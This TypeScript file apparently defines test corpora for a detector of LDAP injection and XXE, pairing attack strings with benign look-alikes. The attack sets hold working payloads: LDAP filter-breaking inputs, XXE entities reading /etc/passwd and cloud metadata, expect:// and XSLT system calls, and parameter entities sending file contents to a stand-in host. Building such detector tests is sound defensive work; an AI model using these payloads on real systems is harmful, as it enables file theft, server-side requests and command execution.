import type { CategoryCorpus } from './corpus.ts'
import { carried, cross, dev, some } from './corpus.ts'

export const ldapCorpus: CategoryCorpus = {
  category: 'ldap_injection',
  attacks: [
    dev(
      'filter left',
      carried(
        some(
          24,
          cross(
            ['*', 'admin', 'ann*', 'x'],
            [')(', '))(|(', ')(|(', ')(&('],
            ['uid=*', 'cn=*', 'objectClass=*', 'userPassword=*', 'mail=a'],
            ['', ')', '))'],
          ),
        ),
      ),
    ),
    dev(
      'always true',
      carried([
        'admin)(&)',
        '*)(&',
        "*()|&'",
        '*)(|(&',
        'admin)(!(&(1=0',
        '*))%00',
        'x*)(|(mail=*',
        '*)(uid=*))(|(uid=*',
      ]),
    ),
    dev(
      'inside a filter',
      some(
        12,
        cross(
          ['(&(uid=', '(cn='],
          ['*)(uid=*))(|(uid=*', 'admin)(&))(', 'a)(|(objectClass=*))'],
          [')(password=x))', ')'],
        ),
      ),
    ),
    dev(
      'odd attributes',
      carried(
        some(
          16,
          cross(
            ['*)(', 'bob)(', '*))(|('],
            ['sAMAccountName=*', 'memberOf=*', 'telephoneNumber=*', 'department=it', 'ou=*'],
            ['', ')', '))'],
          ),
        ),
      ),
    ),
    dev('encoded', [
      '%2a%29%28uid%3d%2a',
      '*%29%28cn=*',
      'admin%29%28%26%29',
      'user=*)(uid=*))(|(uid=*',
      '{"login":"*)(objectClass=*"}',
      'name=*)(|(cn=*))',
      '*)(!(cn=a',
      'a*)(|(sn=*',
    ]),
  ],
  benign: [
    dev(
      'whole filters',
      some(
        20,
        cross(
          ['(&(objectClass=user)(', '(|(', '(&('],
          ['uid=ann', 'cn=Ann*', 'mail=*@h.example'],
          [')(memberOf=cn=a,dc=h))', ')(sn=Bee))'],
        ),
      ),
    ),
    dev('code', [
      'f(a)(b = 1)',
      'curry(x)(y)(z)',
      'int (*cb)(void *)',
      '(function () {})()',
      'useState(0)(name)',
      'if (a)(b)',
      '$(el)(title = 3)',
      'cast(x)(y=2)',
      '((a)(b))',
      'new Proxy(a)(b)',
    ]),
    dev(
      'prose',
      some(
        30,
        cross(
          ['(see p. 3)', 'the price (net)', 'cn=admin,dc=h,dc=example'],
          ['(and p. 4)', ' (gross)', ' is the bind DN', ' (a|b)'],
          ['', '.', ' * note'],
        ),
      ),
    ),
    dev('tooling', [
      'ldapsearch -x -b "dc=h" "(uid=ann)"',
      'ldapsearch "(&(objectClass=person)(uid=ann))" mail cn',
      'user_filter: (uid={0})',
      'AuthLDAPURL ldap://h.example/dc=h?uid?sub?(objectClass=*)',
      'search_filter = "(|(uid=%s)(mail=%s))"',
      'What does (!(cn=a)) mean?',
      'base: ou=people,dc=h',
      '(&(a=b)(!(c=d)))',
      '(objectClass=*)',
      'memberOf:1.2.840.113556.1.4.1941:=cn=x',
    ]),
    dev('regex and lisp', [
      '(a*)(b*)',
      '^(\\w+)(name=.*)$',
      '(defun f (x) (* x x))',
      '((a|b)*)(c|d)',
      '(.*)(uid|gid)',
      '(let ((name 1)) (+ name 2))',
      '\\((\\d+)\\)\\((\\w+)\\)',
      '*) option one',
      '(*)(&x)',
      'glob (*.ts)(*.js)',
    ]),
  ],
}

export const xxeCorpus: CategoryCorpus = {
  category: 'xxe',
  attacks: [
    dev(
      'external entities',
      some(
        30,
        cross(
          ['<?xml version="1.0"?>\n', '', 'Parse this: '],
          ['<!DOCTYPE r [<!ENTITY x SYSTEM ', '<!DOCTYPE foo [ <!ELEMENT foo ANY >\n<!ENTITY xxe SYSTEM '],
          [
            '"file:///etc/passwd"',
            "'file:///c:/windows/win.ini'",
            '"http://h.example/x"',
            '"php://filter/read=convert.base64-encode/resource=a"',
            '"expect://id"',
          ],
          ['>]><r>&x;</r>', ' >]>'],
        ),
      ),
    ),
    dev(
      'parameter entities',
      some(
        12,
        cross(
          ['<!DOCTYPE r [<!ENTITY % d SYSTEM '],
          ['"http://h.example/e.dtd"', "'file:///etc/hostname'", '"ftp://h.example/a"'],
          ['>%d;]>', '> %d; %send; ]>', '>%d;]><r/>'],
        ),
      ),
    ),
    dev('inclusions', [
      '<xi:include parse="text" href="file:///etc/passwd"/>',
      '<xi:include href="http://169.254.169.254/latest/"/>',
      '<svg><image xlink:href="file:///etc/passwd"/></svg>',
      '<image xlink:href="expect://ls"></image>',
      '<?xml-stylesheet type="text/xml" href="file:///etc/passwd"?>',
      '<xsl:value-of select="document(\'file:///etc/passwd\')"/>',
      "<xsl:value-of select=\"php:function('system','id')\"/>",
      '<xsl:copy-of select="unparsed-text(\'file:///etc/passwd\')"/>',
      '<!DOCTYPE a SYSTEM "file:///etc/passwd">',
      '<!DOCTYPE r SYSTEM "http://127.0.0.1:22/x">',
    ]),
    dev(
      'public and cased',
      some(
        12,
        cross(
          ['<!DOCTYPE r [<!ENTITY x PUBLIC "any" ', '<!doctype r [<!entity x system '],
          ['"file:///etc/passwd"', '"http://h.example/a"', "'jar:http://h.example/a.jar!/b'"],
          ['>]>', '> ]>'],
        ),
      ),
    ),
    dev('expansion', [
      '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">',
      "<!ENTITY lol2 '&lol;&lol;&lol;&lol;&lol;'>",
      '<!ENTITY z "&y; &y; &y; &y; &y;">',
      '<!ENTITY % a "<!ENTITY &#37; b SYSTEM \'http://h.example/?%file;\'>">',
      '<!ENTITY % all "<!ENTITY send SYSTEM \'http://h.example/?c=%file;\'>">',
    ]),
  ],
  benign: [
    dev(
      'plain XML',
      some(
        24,
        cross(
          ['<?xml version="1.0" encoding="UTF-8"?>\n', ''],
          [
            '<note><to>Ann</to></note>',
            '<!DOCTYPE html><html></html>',
            '<project xmlns="http://maven.apache.org/POM/4.0.0"/>',
            '<svg xmlns="http://www.w3.org/2000/svg"><use xlink:href="#a"/></svg>',
            '<rss version="2.0"><channel/></rss>',
            '<feed xmlns="http://www.w3.org/2005/Atom"/>',
          ],
          ['', '\n'],
        ),
      ),
    ),
    dev('doctypes and entities', [
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
      '<!DOCTYPE hibernate-configuration PUBLIC "-//Hibernate//DTD 3.0//EN" "http://www.hibernate.org/dtd/a.dtd">',
      '<!ENTITY copy "&#169;">',
      '<!ENTITY product "Gate">',
      '<!ENTITY chap1 SYSTEM "chap1.xml">',
      '<!ELEMENT note (to, from)>',
      '<!ENTITY % text "#PCDATA | b | i">',
      '<!ENTITY % iso SYSTEM "http://www.w3.org/2003/entities/iso.ent">',
      '&amp;&lt;&gt;',
      'The SYSTEM entity and the PUBLIC key',
      '<!ATTLIST a href CDATA #REQUIRED>',
      '<xs:include schemaLocation="types.xsd"/>',
    ]),
    dev(
      'prose',
      some(
        28,
        cross(
          ['An entity ', 'The system ', 'XML files '],
          ['is a legal person', 'reads a file', 'may include others', 'has a doctype'],
          ['.', ' in the public sector.', ' & more', ' <here>'],
        ),
      ),
    ),
    dev('documents', [
      '<xi:include href="chapter2.xml" xmlns:xi="http://www.w3.org/2001/XInclude"/>',
      '<xsl:variable name="t" select="document(\'lookup.xml\')"/>',
      '<xsl:import href="common.xsl"/>',
      '<?xml-stylesheet type="text/css" href="style.css"?>',
      '<image xlink:href="https://h.example/a.png"/>',
      '<image href="data:image/png;base64,AAAA"/>',
      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
      '<!DOCTYPE html SYSTEM "about:legacy-compat">',
      '<!ENTITY full "&first; &last;">',
      '<web-app xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://h.example/a.xsd"/>',
    ]),
    dev('questions', [
      'How do I disable DTD processing in Java?',
      'What is an XML entity?',
      'Is XInclude supported by libxml2?',
      'Set FEATURE_SECURE_PROCESSING to true.',
      'Why is my doctype ignored?',
      'parser.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true)',
      'Use defusedxml to parse files.',
      'How can XSLT read a second document?',
    ]),
  ],
}
